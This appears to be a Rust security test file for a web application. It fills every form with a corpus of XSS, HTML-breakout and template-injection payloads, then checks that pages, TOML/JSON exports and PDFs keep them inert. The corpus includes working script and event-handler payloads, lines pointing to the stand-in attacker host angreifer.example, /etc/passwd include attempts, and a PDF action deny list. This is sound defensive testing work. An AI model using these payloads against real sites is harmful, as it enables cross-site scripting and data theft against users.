@@ -1,0 +1,192 @@
+//! Hostile texts in every text field: whatever they are made of, no page gets an element or attribute that is not ours,
+//! and files hold them as words.
+
+use std::collections::BTreeSet;
+
+use kernel::Role;
+
+use super::{
+    map::{self, Map},
+    page::Kind,
+    town::{self, FORM, SAME, Town},
+};
+
+/// After the evasion lists of OWASP and DOMPurify: what opens tags, breaks out of attributes, comments and scripts, and what
+/// template engines would run.
+const CORPUS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "\"><script src=//angreifer.example></script>",
+    "'><img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "</textarea><iframe srcdoc='<script>1</script>'>",
+    "</title><body onload=alert(1)>",
+    "--><img src=x onerror=alert(1)><!--",
+    "]]><script>alert(1)</script>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<form action=//angreifer.example><input name=p>",
+    "<base href=//angreifer.example/>",
+    "<meta http-equiv=refresh content=0;url=//angreifer.example>",
+    "<link rel=stylesheet href=//angreifer.example>",
+    "<style>@import'//angreifer.example'</style>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "' onmouseover='alert(1)",
+    "` onclick=alert(1)",
+    "x\" hx-get=\"//angreifer.example\" hx-trigger=\"load",
+    "<div hx-get=/sign-out hx-trigger=load>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<object data=data:text/html,x>",
+    "<embed src=//angreifer.example>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<template><script>1</script></template>",
+    "<select><option></select><img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
+    "{ $name } { \"x\" } -term",
+    "\u{ff1c}script\u{ff1e}alert(1)",
+    "\u{202e}<script>\u{2066}",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<x/y/onclick=alert(1)//",
+    "=HYPERLINK(\"//angreifer.example\")",
+    "#import \"/etc/passwd\"",
+    "#eval(\"1\") #link(\"javascript:1\")[x] $ x $ */ /*",
+    "\\input{/etc/passwd} \\u0000 '''\"\"\"",
+];
+
+/// As many of the corpus as fit, from another beginning each time.
+fn hostile(most: usize, from: usize) -> String {
+    let mut text = String::new();
+    for index in 0..CORPUS.len() {
+        let next = CORPUS[(from + index) % CORPUS.len()];
+        if text.chars().count() + next.chars().count() < most {
+            text.push_str(next);
+            text.push(' ');
+        }
+    }
+    text
+}
+
+/// Sends every form that edits or makes something, filled with these words.
+async fn send(
+    town: &Town,
+    maps: &[(town::Citizen, Map)],
+    words: &dyn Fn(usize, usize) -> String,
+) -> (usize, BTreeSet<String>) {
+    let (mut taken, mut fields_seen, mut field_number) = (0, BTreeSet::new(), 0);
+    for (citizen, map) in maps {
+        for (name, forms) in
+            map.forms.iter().filter(|(name, _)| super::replay::order(name).0 == 0 && !name.ends_with("/release"))
+        {
+            for (page, form) in forms.iter().take(2) {
+                let fresh = town.app.get(page, Some(&citizen.token)).await;
+                let now = super::page::read(&fresh.text).forms.into_iter().find(|now| now.action == form.action);
+                let Some(form) = now.filter(|form| !form.multipart) else { continue };
+                // What is too long for a field is tried shorter; what a rule refuses, with another beginning.
+                for (lines, line, more) in [(1_900, 118, 0), (450, 76, 3), (90, 60, 9), (60, 38, 17)] {
+                    let start = field_number + more;
+                    let most = |kind| if kind == Kind::Lines { lines } else { line };
+                    let fields = map::filled(&form, &|field| words(most(field.kind), start + field.name.len()));
+                    field_number += fields.len();
+                    let pairs: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (&**name, &**value)).collect();
+                    let (body, token) = (town::encoded(&pairs), Some(citizen.token.as_str()));
+                    let answer = town.app.request(("POST", &form.action), token, &[FORM, SAME], body.as_bytes()).await;
+                    assert!(answer.status < 500, "{name}: {}", answer.status);
+                    // Also what comes back with its faults is a page.
+                    let inline = super::page::read(&answer.text).inline;
+                    assert!(inline.is_empty(), "{name}: {inline:?}");
+                    if matches!(answer.status, 200 | 303) {
+                        taken += 1;
+                        let free = form.fields.iter().filter(|field| matches!(field.kind, Kind::Words | Kind::Lines));
+                        fields_seen.extend(free.map(|field| format!("{name} {}", field.name)));
+                        break;
+                    }
+                }
+            }
+        }
+    }
+    (taken, fields_seen)
+}
+
+async fn walk(town: &Town) -> Vec<(town::Citizen, Map)> {
+    let mut maps = Vec::new();
+    for role in [Role::Administrator, Role::Lead, Role::Head] {
+        let citizen = town.people.iter().find(|one| one.role == role).unwrap().clone();
+        maps.push((citizen.clone(), Map::draw(town, &citizen).await));
+    }
+    maps
+}
+
+/// Every kind of element, with its attributes, that the pages of a route are made of.
+fn made_of(town: &Town, maps: &[(town::Citizen, Map)]) -> BTreeSet<(String, String)> {
+    let pages = maps.iter().flat_map(|(_, map)| &map.pages);
+    pages
+        .filter_map(|(address, page)| Some((map::name(map::route_of(town, "GET", address)?), page)))
+        .flat_map(|(name, page)| page.outline.iter().map(move |element| (name.clone(), element.clone())))
+        .collect()
+}
+
+#[tokio::test]
+async fn whatever_is_written_into_a_field_stays_words() {
+    let town = Town::given(1).await;
+    let administrator = town.administrator().token.clone();
+    town.app.post("/catalogues/sozialer-dienst-12/1.0/new", Some(&administrator), &[]).await;
+    let maps = walk(&town).await;
+    let (_, benign_fields) = send(&town, &maps, &|_, _| format!("Wort {}", map::fresh())).await;
+    let maps = walk(&town).await;
+    let ours = made_of(&town, &maps);
+    let mut fields = BTreeSet::new();
+    let mut taken = 0;
+    for round in 0..2 {
+        let (more, found) = send(&town, &maps, &|most, at| hostile(most, at + round * 15)).await;
+        taken += more;
+        fields.extend(found);
+    }
+    assert!(taken > 40 && fields.len() > 25, "{taken} forms, {fields:?}");
+    let missing: Vec<_> = benign_fields.difference(&fields).collect();
+    assert!(missing.is_empty(), "these took a word and no hostile text: {missing:?}");
+    let after = walk(&town).await;
+    let strange: Vec<_> = made_of(&town, &after).difference(&ours).cloned().collect();
+    assert!(strange.is_empty(), "{strange:?}");
+    let inline: Vec<_> =
+        after.iter().flat_map(|(_, map)| map.pages.values()).flat_map(|page| page.inline.clone()).collect();
+    assert!(inline.is_empty(), "{inline:?}");
+    files(&town).await;
+}
+
+/// Files hold the same texts as words: TOML and JSON are read back, a paper has no actions.
+async fn files(town: &Town) {
+    let lead = town.one(Role::Lead, 1).token.clone();
+    let home = format!("/programmes/{}", town::programme(1));
+    let export = town.app.get(&format!("{home}/export.toml"), Some(&lead)).await;
+    let table: toml::Table = export.text.parse().unwrap();
+    let title = table["programme"]["title"].as_str().unwrap().to_owned();
+    assert!(title.contains("script") || title.contains('<'), "{title}");
+    assert!(export.header("content-disposition").starts_with("attachment"));
+    let json = town.app.get(&format!("/api/v1{home}"), Some(&lead)).await;
+    let value: serde_json::Value = serde_json::from_str(&json.text).unwrap();
+    assert_eq!(json.header("content-type"), "application/json");
+    assert!(value.to_string().contains(&serde_json::json!(title).to_string()), "{value}");
+    let paper = town.app.get(&format!("{home}/matrix.pdf"), Some(&lead)).await;
+    assert!(paper.bytes.starts_with(b"%PDF"));
+    for word in ["/JavaScript", "/JS", "/Launch", "/OpenAction", "/URI", "/EmbeddedFile", "/SubmitForm"] {
+        assert!(!paper.text.contains(word), "{word}");
+    }
+}
+
+/// The control: the judge sees an element that a text made.
+#[test]
+fn an_element_that_is_not_ours_is_seen() {
+    let ours = super::page::read("<p class=x>Wort</p>");
+    for text in CORPUS.iter().filter(|text| text.starts_with('<')) {
+        let page = super::page::read(&format!("<p class=x>{text}</p>"));
+        assert_ne!(page.outline, ours.outline, "{text}");
+    }
+    assert!(!super::page::read("<a href='java\tscript:1'>").inline.is_empty());
+    assert!(!super::page::read("<img src=x onerror=1>").inline.is_empty());
+}
